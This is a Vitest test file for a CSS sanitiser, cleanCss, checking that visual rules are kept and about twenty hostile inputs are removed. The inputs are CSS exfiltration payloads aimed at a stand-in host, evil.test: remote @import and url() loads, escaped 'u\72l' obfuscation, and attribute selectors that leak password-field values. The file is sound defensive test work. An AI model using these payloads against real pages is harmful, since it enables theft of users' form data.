import { describe, expect, it } from 'vitest';
import { cleanCss } from './clean-css.ts';

describe('[C5.4] a company’s style sheet', () => {
  it('keeps rules that only affect the look', () => {
    const css = '@media (min-width:40em){.a>b:hover{color:red;margin:calc(1px + 2%)}}:root{--x:#fff}';
    expect(cleanCss(css)).toBe(css);
    expect(cleanCss('a{background:url(data:image/gif;base64,R0lGOD)}')).toContain('data:image/gif');
  });

  it.each([
    ['@import "https://evil.test/a.css";'],
    ['@import url(//evil.test/a.css);'],
    ['a{background:url(https://evil.test/x)}'],
    ['a{background:url("//evil.test/x")}'],
    ['a{background:u\\72l(https://evil.test/x)}'],
    ['a{background:image-set("https://evil.test/x" 1x)}'],
    ['a{background:-webkit-image-set(url(https://evil.test/x) 1x)}'],
    ['a{--x:url(https://evil.test/x);background:var(--x)}'],
    ['a{--x:u\\72l(https://evil.test/x)}'],
    ['@font-face{font-family:x;src:url(https://evil.test/x)}'],
    ['input[type=password][value$="a"]{background:url(https://evil.test/a)}'],
    ['input[value^=a]{color:red}'],
    ['@media all{input[value^=a]{color:red}}'],
    [':is(input[value^=a]){color:red}'],
    ['a{behavior:url(https://evil.test/x)}'],
    ['a{cursor:url(https://evil.test/x),auto}'],
    ['a{content:attr(value)}'],
    ['@namespace x url(https://evil.test/x);'],
    ['a{background:url(https://evil.test/x'],
    ['a { b { background: url(https://evil.test/x) } }'],
  ])('omits %s', (css) => {
    const clean = cleanCss(css);
    expect(clean).not.toMatch(/evil|value|\\/);
  });
});
